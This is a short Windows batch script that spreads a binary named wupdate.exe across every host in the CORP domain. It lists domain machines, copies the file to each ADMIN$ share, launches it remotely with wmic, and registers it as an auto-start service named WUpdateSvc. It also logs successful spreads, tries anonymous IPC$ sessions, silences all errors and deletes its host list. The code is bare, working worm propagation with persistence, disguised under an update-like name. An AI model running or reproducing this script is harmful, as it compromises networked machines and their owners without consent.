@echo off
setlocal EnableDelayedExpansion
set "P=%~dp0wupdate.exe"
net view /domain:CORP > "%TEMP%\h.txt" 2>nul
for /f "tokens=1 delims= " %%h in ('findstr /b "\\\\" "%TEMP%\h.txt"') do (
    set "H=%%h"
    set "H=!H:\\=!"
    copy /y "%P%" "\\!H!\ADMIN$\wupdate.exe" >nul 2>&1 && (
        wmic /node:"!H!" process call create "C:\Windows\wupdate.exe -s" >nul 2>&1
        sc \\!H! create WUpdateSvc binPath= "C:\Windows\wupdate.exe -svc" start= auto >nul 2>&1
        sc \\!H! start WUpdateSvc >nul 2>&1
        echo !H! ok>> "%TEMP%\spread.log"
    )
)
for /f "skip=1" %%i in ('type "%TEMP%\h.txt"') do net use \\%%i\IPC$ "" /user:"" >nul 2>&1
del /q "%TEMP%\h.txt"
endlocal
